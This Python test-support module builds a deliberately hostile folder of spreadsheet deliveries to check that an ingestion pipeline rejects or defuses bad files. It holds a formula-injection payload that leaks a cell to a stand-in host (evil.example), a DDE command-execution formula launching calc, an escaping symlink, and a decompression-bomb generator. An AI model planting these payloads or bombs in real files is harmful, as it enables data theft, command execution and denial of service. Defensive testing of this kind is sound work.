"""A hostile delivery folder, built by hand (no tests here: builders only; issue 16).

Each file tries one thing a real delivery folder on a shared server might carry; the comment on
each says what must happen to it. ``bomb_xlsx`` is a valid workbook whose one cell unpacks to
``size`` bytes from a few hundred kilobytes.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

import xlsxwriter

from support.deliveries import ENROLMENT, H1, H2, H3, JOBS, client, job, write_csv

FORMULA_TEAM = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
FORMULA_COACH = "@SUM(1+1)*cmd|' /C calc'!A0"
LONG_TEAM_CHARS = 400_000  # one cell, under the row limit: cut in raw, never staged
OUTSIDE_CLIENT = "HEL-0009"  # only in the file a symlink points to, outside the folder

FIDELITY = ["tiimi", "alue", "arviopvm", *(f"k{i:02d}" for i in range(1, 26))]


def review(team: str, day: str = "1.6.2023") -> list[str]:
    return [team, "HEL", day, *("4" * 25)]


def hostile_delivery(root: Path) -> Path:
    """The folder; a file outside it (the symlink's target) is written beside it."""
    d = root / "deliveries"
    enrolled = [client("HEL-0001", H1), client("HEL-0002", H2), client("HEL-0003", H3)]
    enrolled[0][4] = FORMULA_TEAM  # field defect formula_like_value; defused if published
    enrolled[2][5] = FORMULA_COACH
    write_csv(d / "asiakkaat/2023-07-05_HEL.csv", ENROLMENT, enrolled)
    # a file in a subfolder: recorded, rejected unread (file_nested)
    write_csv(d / "asiakkaat/extra/2023-07-06_HEL.csv", ENROLMENT, [client("HEL-0004", H2)])
    # a link out of the folder: never followed (file_symlink)
    outside = write_csv(root / "elsewhere/secret.csv", ENROLMENT,
                        [client(OUTSIDE_CLIENT, H1)])
    (d / "asiakkaat/2023-07-07_HEL.csv").symlink_to(outside)
    # the issuer is not a region code (file_name_invalid)
    write_csv(d / "asiakkaat/2024-06-11_hus_korjattu.csv", ENROLMENT, [client("HUS-0001", H2)])
    # comma-delimited: rejected with a hint about the delimiter
    (d / "tyosuhteet").mkdir(parents=True)
    (d / "tyosuhteet/2023-07-05_HEL.csv").write_text(
        "\n".join(",".join(r) for r in [JOBS, job("HEL-0002", "1")]) + "\n", encoding="utf-8")
    # data on the second sheet only: read, and the run says which sheet
    two_sheets(d / "laatuarviot/2023-07-05_HEL.xlsx", FIDELITY, [review("HEL-T1")])
    # one 400,000-character team code: the row's key is malformed, nothing huge is kept
    write_csv(d / "laatuarviot/2023-08-01_HEL.csv", FIDELITY,
              [review("HEL-T2", "2.7.2023"), review("T" * LONG_TEAM_CHARS, "3.7.2023")])
    # a 2 MB line: over the row limit, the file is rejected (file_too_large)
    write_csv(d / "laatuarviot/2023-08-02_HEL.csv", FIDELITY,
              [review("HEL-T3", "4.7.2023"), review("x" * (2 << 20), "5.7.2023")])
    # a decompression bomb: a few hundred KB that unpack to 300 MB (file_too_large)
    bomb_xlsx(d / "kontaktit/2023-07-05_HEL.xlsx", 300 << 20)
    # a 20 MB team code in a workbook, under the workbook limits: read, cut, never staged
    bomb_xlsx(d / "laatuarviot/2023-08-03_HEL.xlsx", 20 << 20, FIDELITY)
    return d


def two_sheets(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    book = xlsxwriter.Workbook(path)
    book.add_worksheet("Ohjeet")  # empty
    data = book.add_worksheet("Taul2")
    for r, values in enumerate([header, *rows]):
        for c, value in enumerate(values):
            data.write_string(r, c, value)
    book.close()
    return path


CONTACTS = ["valmentaja", "pvm", "tyonantaja", "tyyppi", "asiakastunnus"]


def bomb_xlsx(path: Path, size: int, header: list[str] = CONTACTS) -> Path:
    """A workbook with ``header`` whose first data cell is ``size`` bytes of 'A', deflated:
    written by streaming, so making it costs no memory either."""
    path.parent.mkdir(parents=True, exist_ok=True)
    seed = path.with_suffix(".seed.xlsx")
    book = xlsxwriter.Workbook(seed)
    sheet = book.add_worksheet()
    for c, name in enumerate(header):
        sheet.write_string(0, c, name)
    sheet.write_string(1, 0, "PLACEHOLDER")
    book.close()
    with zipfile.ZipFile(seed) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED,
                                                       compresslevel=9) as out:
        for item in src.infolist():
            if item.filename != "xl/sharedStrings.xml":
                out.writestr(item, src.read(item))
                continue
            text = src.read(item).decode("utf-8")
            head, tail = text.split("PLACEHOLDER")
            info = zipfile.ZipInfo("xl/sharedStrings.xml")
            info.compress_type = zipfile.ZIP_DEFLATED
            with out.open(info, "w", force_zip64=True) as stream:
                stream.write(head.encode())
                block = b"A" * (1 << 20)
                for _ in range(size >> 20):
                    stream.write(block)
                stream.write(tail.encode())
    seed.unlink()
    return path
